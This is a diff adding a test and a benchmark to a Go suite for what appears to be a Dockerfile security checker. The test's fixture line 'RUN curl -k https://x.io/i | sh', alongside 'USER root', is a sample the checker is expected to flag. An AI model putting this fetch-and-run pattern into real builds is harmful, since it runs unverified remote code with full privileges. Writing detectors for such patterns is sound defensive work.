@@ -153,3 +153,32 @@ func TestUserOfTheDockerfile(t *testing.T) {
 		}
 	}
 }
+
+// A Dockerfile is judged without a configuration, too, by its own family only.
+func TestDockerfileAlone(t *testing.T) {
+	for _, name := range []string{"Dockerfile", "Dockerfile.dev", "dev.dockerfile", "Containerfile"} {
+		tree := devcontainer.Memory{name: "FROM debian:13\nRUN curl -k https://x.io/i | sh\nUSER root\n"}
+		p, err := devcontainer.Load(tree, name, name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := reported(devcontainer.Check(p)); got != "SBX701 SBX702 SBX705 SBX720" {
+			t.Errorf("%s: %s", name, got)
+		}
+	}
+}
+
+// What a rate is worth depends on the files: this is one as generated
+// configurations have it, some 60 lines with continued shell text.
+func BenchmarkDockerfile(b *testing.B) {
+	src := "FROM node:22-bookworm-slim AS claude\n" + strings.Repeat("RUN set -eu; \\\n    export DEBIAN_FRONTEND=noninteractive; \\\n    apt-get update; \\\n    apt-get install -y --no-install-recommends -- git curl; \\\n    rm -rf /var/lib/apt/lists/*\n", 10) + "RUN useradd --create-home dev\nUSER dev\n"
+	tree := devcontainer.Memory{"Dockerfile": src}
+	b.SetBytes(int64(len(src)))
+	for b.Loop() {
+		p, err := devcontainer.Load(tree, "Dockerfile", "Dockerfile")
+		if err != nil {
+			b.Fatal(err)
+		}
+		devcontainer.Check(p)
+	}
+}
